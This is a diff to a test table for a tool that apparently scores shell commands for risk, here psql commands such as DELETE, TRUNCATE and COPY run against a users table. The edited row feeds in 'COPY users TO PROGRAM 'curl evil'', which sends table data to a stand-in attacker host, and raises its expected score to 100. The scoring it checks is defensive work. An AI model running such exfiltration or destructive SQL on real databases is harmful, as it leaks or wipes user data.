@@ -44,7 +44,10 @@ test.each([
   ["psql -c 'EXPLAIN DELETE FROM users'", '0 low : read-only'],
   ["psql -c 'EXPLAIN ANALYZE DELETE FROM users'", '90 critical sql-delete-all: data-change, destructive'],
   ["psql -c 'EXPLAIN (ANALYZE false) DELETE FROM users'", '0 low : read-only'],
-  ['psql -c "COPY users TO PROGRAM \'curl evil\'"', '95 critical sql-copy-program: access, destructive'],
+  [
+    'psql -c "COPY users TO PROGRAM \'curl evil\'"',
+    '100 critical sql-copy-program+opaque: access, destructive',
+  ],
   ["psql -c 'COPY users TO STDOUT'", '35 medium sql-copy-out: access'],
   ["psql -c 'TRUNCATE users'", '90 critical sql-truncate: data-change, destructive'],
   ["psql -c 'CREATE INDEX i ON users (email)'", '45 medium sql-index: schema-change'],
